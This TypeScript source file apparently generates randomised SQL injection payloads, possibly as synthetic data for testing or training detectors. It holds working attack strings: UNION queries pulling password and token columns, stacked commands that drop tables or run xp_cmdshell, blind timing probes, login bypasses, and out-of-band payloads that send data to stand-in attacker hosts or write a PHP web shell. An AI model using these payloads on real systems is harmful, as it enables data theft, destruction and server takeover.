import type { Rng } from './rng.js';
import { randomCase } from './obfuscate.js';
import { toolSqliPayload } from './sqli-tool.js';

/** SQL injection grammar: breakout, then a technique (tautology, UNION, stacked, boolean/time/error-based, OOB), then a terminator. */

const VALUES = ['1', '2', '10', '42', '1337', 'admin', 'test', 'john', 'x', 'abc', 'user@mail.com', '0', '-1', '99999', 'shoes', 'a', 'root', 'guest'];
const BREAKOUTS = ["'", '"', "')", '")', "'))", '"))', ')', '', '', "`", "%'", "';", '\'"', '))', "') )"];
const TABLES = ['users', 'user', 'admin', 'accounts', 'members', 'customers', 'login', 'tbl_users', 'wp_users', 'credentials', 'employees', 'orders', 'passwords', 'sessions', 'staff'];
const COLUMNS = ['username', 'password', 'passwd', 'pass', 'email', 'user', 'login', 'pwd', 'hash', 'name', 'id', 'user_id', 'token', 'credit_card', 'secret'];
const FUNCS = ['version()', '@@version', 'database()', 'user()', 'current_user', 'system_user()', 'schema()', '@@datadir', '@@hostname', 'db_name()', 'sqlite_version()', 'banner', 'current_database()', 'session_user', 'sys_context(\'userenv\',\'current_user\')', 'host_name()', 'suser_sname()'];
const META_TABLES = ['information_schema.tables', 'information_schema.columns', 'information_schema.schemata', 'sqlite_master', 'pg_catalog.pg_tables', 'pg_user', 'sys.tables', 'sysobjects', 'master..sysdatabases', 'all_tables', 'dba_users', 'mysql.user', 'v$version', 'user_tables', 'pg_shadow'];
const TERMINATORS = ['--', '-- -', '--+', '#', '/*', ';--', ';', '', '', '', '-- x', '%00', ';#', '--;', "-- '", '/*!*/', '`'];

const n = (rng: Rng) => String(rng.int(0, 20));
const q = (rng: Rng) => rng.pick(["'", '"', '']);
const word = (rng: Rng) => rng.pick(['a', 'x', 'abc', 'foo', 'test', '1', 'z', 'sw', 'ab']);

function tautology(rng: Rng): string {
  const a = n(rng);
  const s = word(rng);
  const cmp = rng.pick([
    `${a}=${a}`, `'${s}'='${s}`, `'${s}'='${s}'`, `"${s}"="${s}"`, `${a}>${Number(a) - rng.int(1, 5)}`, 'true', `not ${rng.int(0, 0)}`,
    `${a} like ${a}`, `'${s}' like '${s}'`, `${a} in (${a})`, `${a} between ${Number(a) - 1} and ${Number(a) + 1}`,
    `${a}<>${Number(a) + 1}`, `${a}!=${Number(a) + 2}`, `'${s}'<>'${s}x'`, `${rng.pick(COLUMNS)} is not null`, `${rng.pick(COLUMNS)} like '%'`,
    `1`, `0x${Buffer.from(s).toString('hex')}=0x${Buffer.from(s).toString('hex')}`, `'${s}'=lower('${s.toUpperCase()}')`, `exists(select 1)`,
    `${a}=${a} and '${s}'='${s}`, `ascii('${s[0]}')=${s.charCodeAt(0)}`, `char(${s.charCodeAt(0)})='${s[0]}'`, `2-1=1`, `'1'`,
  ]);
  const op = rng.pick(['or', 'or', 'OR', '||', 'Or', 'and', 'xor', '&&']);
  return `${op} ${cmp}`;
}

function selectList(rng: Rng): string {
  const cols = rng.int(1, 8);
  const items: string[] = [];
  const hit = rng.int(0, cols - 1);
  for (let i = 0; i < cols; i++) {
    if (i === hit) {
      items.push(rng.pick([
        rng.pick(FUNCS), rng.pick(COLUMNS), `concat(${rng.pick(COLUMNS)},0x3a,${rng.pick(COLUMNS)})`, `group_concat(${rng.pick(COLUMNS)})`,
        `${rng.pick(COLUMNS)}||':'||${rng.pick(COLUMNS)}`, `load_file('/etc/passwd')`, `table_name`, `column_name`, `string_agg(${rng.pick(COLUMNS)},',')`,
        `concat_ws(0x7e,${rng.pick(FUNCS)},${rng.pick(FUNCS)})`, `char(${rng.int(60, 120)},${rng.int(60, 120)})`, `0x${rng.int(0x1000, 0xffff).toString(16)}`,
        `listagg(${rng.pick(COLUMNS)},',')`, `name`, `sql`, `'${word(rng)}'`,
      ]));
    } else {
      items.push(rng.pick(['null', 'NULL', String(i + 1), `'${word(rng)}'`, '1', 'null']));
    }
  }
  return items.join(rng.pick([',', ', ', ',']));
}

function union(rng: Rng): string {
  const from = rng.weighted<string>([
    [4, () => ` from ${rng.pick(TABLES)}`],
    [3, () => ` from ${rng.pick(META_TABLES)}${rng.chance(0.4) ? ` where table_schema=${rng.pick(['database()', "'public'", "'main'", '0x' + Buffer.from('app').toString('hex')])}` : ''}`],
    [1, () => ' from dual'],
    [3, () => ''],
  ]);
  const limit = rng.chance(0.25) ? rng.pick([' limit 1', ` limit ${rng.int(0, 5)},1`, ' offset 1', ' order by 1', ` where ${rng.pick(COLUMNS)}='admin'`]) : '';
  return `${rng.pick(['union', 'union all', 'UNION', 'UNION ALL', 'union distinct', 'UnIoN'])} ${rng.pick(['select', 'SELECT', 'SeLeCt'])} ${selectList(rng)}${from}${limit}`;
}

function stacked(rng: Rng): string {
  const t = rng.pick(TABLES);
  return '; ' + rng.pick([
    `drop table ${t}`, `DROP TABLE ${t}`, `delete from ${t}`, `truncate table ${t}`, `insert into ${t} (${rng.pick(COLUMNS)},${rng.pick(COLUMNS)}) values ('hacker','${word(rng)}')`,
    `update ${t} set ${rng.pick(COLUMNS)}='${word(rng)}' where ${rng.pick(COLUMNS)}='admin'`, `exec xp_cmdshell '${rng.pick(['dir', 'whoami', 'net user', 'ping 10.0.0.1'])}'`,
    `exec master..xp_cmdshell "${rng.pick(['dir c:\\', 'whoami'])}"`, 'shutdown', `declare @q varchar(99); set @q='${word(rng)}'; exec(@q)`, `select pg_sleep(${rng.int(2, 15)})`,
    `create table ${word(rng)}(x text)`, `alter table ${t} add ${word(rng)} int`, `grant all privileges on *.* to '${word(rng)}'@'%'`,
    `copy ${t} to program '${rng.pick(['id', 'curl 10.0.0.5'])}'`, `waitfor delay '0:0:${rng.int(2, 9)}'`, `select sleep(${rng.int(2, 10)})`,
    `attach database '/var/www/${word(rng)}.php' as pwn`, `set @a=${n(rng)}`, `exec sp_configure 'show advanced options',1`, `load data infile '/etc/passwd' into table ${t}`,
  ]);
}

function timeBased(rng: Rng): string {
  const s = rng.int(2, 20);
  const cond = rng.pick(['1=1', `${n(rng)}=${n(rng)}`, `substring(${rng.pick(FUNCS)},1,1)='${rng.int(1, 9)}'`, `ascii(substr(${rng.pick(FUNCS)},1,1))>${rng.int(40, 120)}`]);
  return rng.pick([
    `and sleep(${s})`, `or sleep(${s})`, `and (select * from (select(sleep(${s})))${word(rng)})`, `or if(${cond},sleep(${s}),0)`, `and if(${cond},sleep(${s}),0)`,
    `waitfor delay '0:0:${s}'`, `; waitfor delay '00:00:${String(s).padStart(2, '0')}'`, `and 1=(select 1 from pg_sleep(${s}))`, `|| pg_sleep(${s})`,
    `and benchmark(${rng.int(1, 50)}000000,md5(${n(rng)}))`, `or benchmark(${rng.int(1, 50)}000000,sha1('${word(rng)}'))`,
    `and ${rng.int(1, 9999)}=dbms_pipe.receive_message(('${word(rng)}'),${s})`, `and ${n(rng)}=like('abcdefg',upper(hex(randomblob(${rng.int(1, 9)}00000000/2))))`,
    `and (select case when (${cond}) then pg_sleep(${s}) else pg_sleep(0) end)`, `; if (${cond}) waitfor delay '0:0:${s}'`, `and sleep(${s})='`, `xor(if(now()=sysdate(),sleep(${s}),0))`,
    `rlike sleep(${s})`, `and extractvalue(1,if(${cond},sleep(${s}),1))`,
  ]);
}

function booleanBased(rng: Rng): string {
  const op = rng.pick(['and', 'AND', 'or', '&&']);
  return `${op} ` + rng.pick([
    `${n(rng)}=${n(rng)}`, `substring(${rng.pick(FUNCS)},1,1)='${rng.int(1, 9)}'`, `ascii(substr((select ${rng.pick(COLUMNS)} from ${rng.pick(TABLES)} limit 1),${rng.int(1, 20)},1))>${rng.int(32, 126)}`,
    `length(${rng.pick(FUNCS)})>${rng.int(1, 20)}`, `(select count(*) from ${rng.pick(TABLES)})>0`, `mid(${rng.pick(FUNCS)},1,1)='${word(rng)[0]}'`,
    `exists(select * from ${rng.pick(TABLES)} where ${rng.pick(COLUMNS)} like '${word(rng)}%')`, `ord(mid(${rng.pick(COLUMNS)},${rng.int(1, 9)},1))=${rng.int(48, 122)}`,
    `'${word(rng)}'=(select '${word(rng)}')`, `(select substr(${rng.pick(COLUMNS)},1,1) from ${rng.pick(TABLES)} where rownum=1)='a'`, `${n(rng)} regexp '^[a-m]'`,
    `unicode(substring((select top 1 name from sysobjects),1,1))>${rng.int(50, 120)}`, `(select 1 from ${rng.pick(META_TABLES)} limit 1)=1`,
  ]);
}

function errorBased(rng: Rng): string {
  const f = rng.pick(FUNCS);
  return rng.pick(['and ', 'or ', 'AND ', '|| ']) + rng.pick([
    `extractvalue(1,concat(0x7e,(select ${f}),0x7e))`, `updatexml(1,concat(0x7e,(${f})),1)`, `1=convert(int,(select ${f}))`, `1=cast((select ${f}) as int)`,
    `(select 1 from(select count(*),concat((select ${f}),floor(rand(0)*2))x from information_schema.tables group by x)a)`, `exp(~(select * from (select ${f})x))`,
    `1=ctxsys.drithsx.sn(1,(select ${f} from dual))`, `gtid_subset(concat(0x7e,(select ${f})),1)`, `json_keys((select convert((select ${f}) using utf8)))`,
    `1=(select ${f}::int)`, `cast(${f} as numeric)`, `1=utl_inaddr.get_host_name((select ${f} from dual))`, `polygon((select * from(select * from(select ${f})a)b))`,
  ]);
}

function outOfBand(rng: Rng): string {
  const host = `${word(rng)}${rng.int(1, 999)}.${rng.pick(['oast.example', 'attacker.test', 'collab.example.net', 'x.evil.test'])}`;
  return rng.pick([
    `union select load_file(concat('\\\\\\\\',(select ${rng.pick(FUNCS)}),'.${host}\\\\a'))`, `and 1=utl_http.request('http://${host}/'||(select user from dual))`,
    `; exec master..xp_dirtree '\\\\${host}\\a'`, `union select 1,'<?php system($_GET[c]); ?>' into outfile '/var/www/html/${word(rng)}.php'`,
    `into dumpfile '/tmp/${word(rng)}.so'`, `; copy (select '') to program 'nslookup ${host}'`, `and (select load_file('\\\\\\\\${host}\\\\x'))`,
  ]);
}

function orderProbe(rng: Rng): string {
  return rng.pick([`order by ${rng.int(1, 30)}`, `group by ${rng.int(1, 10)}`, `order by ${rng.int(1, 12)} desc`, `group by ${rng.pick(COLUMNS)} having 1=1`, `procedure analyse()`, `having 1=1`]);
}

/** Whole injected statements, as seen in API parameters that take raw SQL fragments or in second-order data. */
function fullQuery(rng: Rng): string {
  const t = rng.pick(TABLES);
  return rng.pick([
    `${rng.pick(VALUES)} or 1=1; select * from ${t}`, `select ${rng.pick(COLUMNS)},${rng.pick(COLUMNS)} from ${t} where 1=1 --`, `1;select ${rng.pick(FUNCS)}`,
    `(select ${rng.pick(FUNCS)})`, `1 and (select ${rng.pick(FUNCS)}) is not null`, `${rng.pick(VALUES)}' and 1=0 union select ${selectList(rng)} --`,
    `if(1=1,${rng.pick(FUNCS)},0)`, `case when 1=1 then 1 else (select 1 union select 2) end`, `1 procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)`,
  ]);
}

/** Space substitutes that SQL parsers accept. */
function spaceTrick(rng: Rng, s: string): string {
  const sub = rng.pick(['/**/', '%20', '%09', '%0a', '+', '\t', '\n', '%0d%0a', '/*x*/', '%a0', '()', '%0b', '  ']);
  if (sub === '()') return s.replace(/ (select|from|where|and|or) /gi, (m, w) => `(${w})`);
  return s.replace(/ /g, sub);
}

/** Login bypass: close the quote and comment out the password check (admin'--). */
function authBypass(rng: Rng): string {
  return `${rng.pick(['admin', 'administrator', 'root', 'user', rng.pick(VALUES)])}${rng.pick(["'", '"', "')", '")'])}${rng.pick(['', ' ', '  '])}${rng.pick(['--', '#', '/*', '-- -', '--+', ';--', ';#', '%23', '%2d%2d'])}`;
}

export function sqliPayload(rng: Rng): string {
  if (rng.chance(0.15)) return toolSqliPayload(rng);
  const technique = rng.weighted<string>([
    [22, () => tautology(rng)], [18, () => union(rng)], [10, () => stacked(rng)], [12, () => timeBased(rng)],
    [10, () => booleanBased(rng)], [8, () => errorBased(rng)], [3, () => outOfBand(rng)], [5, () => orderProbe(rng)], [6, () => fullQuery(rng)], [5, () => ''],
  ]);
  if (technique === '') return authBypass(rng);
  const value = rng.chance(0.7) ? rng.pick(VALUES) : '';
  const breakout = rng.pick(BREAKOUTS);
  const sep = rng.pick([' ', ' ', ' ', '', '  ']);
  let tail = rng.pick(TERMINATORS);
  // A quoted breakout often closes the trailing quote instead of commenting it out.
  if (breakout.startsWith("'") && tail === '' && rng.chance(0.5)) tail = rng.pick([" and '1'='1", " or 'x'='x", " and ''='", "'"]);
  let s = `${value}${breakout}${sep}${technique}${tail.startsWith(' ') || tail === '' ? '' : ' '}${tail}`;
  if (rng.chance(0.2)) s = spaceTrick(rng, s);
  if (rng.chance(0.15)) s = s.replace(/\b(select|union|from|where|and|or|sleep|order)\b/gi, (w) => randomCase(rng, w));
  if (rng.chance(0.05)) s = s.replace(/\bunion\b/i, (w) => rng.pick([`un/**/ion`, `/*!${w}*/`, `/*!50000${w}*/`]));
  if (rng.chance(0.1)) s = s.replace(/=/g, rng.pick([' like ', ' = ', '=']));
  return s.trim().length ? s : "' or 1=1--";
}
